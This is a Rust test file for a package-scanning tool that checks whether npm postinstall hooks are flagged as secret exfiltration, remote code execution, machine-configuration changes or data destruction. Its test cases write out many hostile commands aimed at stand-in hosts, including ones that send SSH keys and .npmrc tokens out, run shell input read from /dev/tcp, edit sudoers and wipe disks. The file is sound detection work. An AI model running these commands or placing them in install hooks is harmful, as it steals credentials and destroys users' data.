use super::is_drive;
use crate::flow::testing;
use crate::unpack::text_file;
use customs_model::{Flow, SinkKind, SourceKind, Zone};

/// What a hook does, when it is installed.
fn does(hook: &str) -> Vec<Flow> {
    let manifest = serde_json::json!({
        "name": "a", "version": "1.0.0", "scripts": {"postinstall": hook},
    });
    let found = testing::found(vec![
        text_file("package/package.json", &manifest.to_string()),
        text_file("package/note.txt", "a note\n"),
    ]);
    let flows = found.flows.into_iter();
    flows.filter(|flow| flow.zone == Zone::Install).collect()
}

fn is_secret(flow: &Flow) -> bool {
    matches!(
        flow.source,
        SourceKind::CredentialFile | SourceKind::Environment
    ) && flow.sink == SinkKind::Network
}

#[test]
fn what_is_secret_leaves_by_programs_that_have_another_purpose() {
    for hook in [
        "zip -r - ~/.aws | openssl s_client -connect a.invalid:443",
        "aws s3 cp ~/.ssh/id_rsa s3://bucket.invalid/x",
        "gsutil cp ~/.ssh/id_rsa gs://bucket.invalid/x",
        "mail -s x me@a.invalid < ~/.ssh/id_rsa",
        "sendmail me@a.invalid < ~/.npmrc",
        "gh gist create ~/.npmrc",
        "cat ~/.npmrc | ssh me@a.invalid 'cat > x'",
        "find ~/.ssh -name 'id_*' -exec curl -F f=@{} https://a.invalid \\;",
        "wget --post-data \"$(env)\" https://a.invalid",
        "exec 3<>/dev/tcp/a.invalid/80; cat ~/.npmrc >&3",
        "powershell -c \"iwr https://a.invalid -Method POST -Body (gc ~/.npmrc)\"",
    ] {
        assert!(does(hook).iter().any(is_secret), "{hook}");
    }
    for hook in [
        "aws s3 cp note.txt s3://bucket.invalid/x",
        "mail -s x me@a.invalid < note.txt",
        "gh gist create note.txt",
        "find . -name '*.txt' -exec cat {} \\;",
        "exec 3<>/dev/tcp/a.invalid/80; cat ~/.npmrc >&2",
        "cat ~/.npmrc > /dev/null",
    ] {
        assert!(!does(hook).iter().any(is_secret), "{hook}");
    }
}

#[test]
fn what_is_read_from_a_socket_and_run_is_remote() {
    let remote = |flow: &Flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::Process;
    assert!(does("sh < /dev/tcp/a.invalid/80").iter().any(remote));
    assert!(
        does("exec 5<>/dev/tcp/a.invalid/80; sh <&5")
            .iter()
            .any(remote)
    );
    assert!(!does("exec 5<note.txt; cat <&5").iter().any(remote));
}

#[test]
fn settings_of_the_machine_are_changed_by_their_own_programs() {
    let settles = |hook: &str| {
        let flows = does(hook);
        flows
            .iter()
            .any(|flow| flow.sink == SinkKind::Configuration)
    };
    for hook in [
        "npm config set registry https://a.invalid",
        "npm config set script-shell ./sh",
        "pip config set global.index-url https://a.invalid/simple",
        "git config --global url.https://a.invalid/.insteadOf https://b.example/",
        "git config --global core.sshCommand ./ssh",
        "systemctl --user enable a.service",
        "sudo sh -c 'echo x >> /etc/sudoers'",
    ] {
        assert!(settles(hook), "{hook}");
    }
    for hook in [
        "npm config get registry",
        "npm config set fund false",
        "pip config list",
        "git config user.name a",
        "git config core.hooksPath .githooks",
        "systemctl status a.service",
    ] {
        assert!(!settles(hook), "{hook}");
    }
}

#[test]
fn drives_keys_and_everything_are_destroyed_in_more_ways_than_rm() {
    let destroys = |hook: &str| {
        let flows = does(hook);
        flows.iter().any(|flow| flow.sink == SinkKind::Destruction)
    };
    for hook in [
        "find / -delete",
        "find ~ -type f -delete",
        "dd if=/dev/zero of=/dev/sda",
        "mkfs.ext4 /dev/nvme0n1",
        "shred ~/.ssh/id_rsa",
    ] {
        assert!(destroys(hook), "{hook}");
    }
    for hook in [
        "find . -name '*.map' -delete",
        "find dist -delete",
        "dd if=/dev/zero of=image.bin count=1",
        "shred build/key",
    ] {
        assert!(!destroys(hook), "{hook}");
    }
    assert!(!is_drive("/dev/null") && is_drive("/dev/disk2"));
}
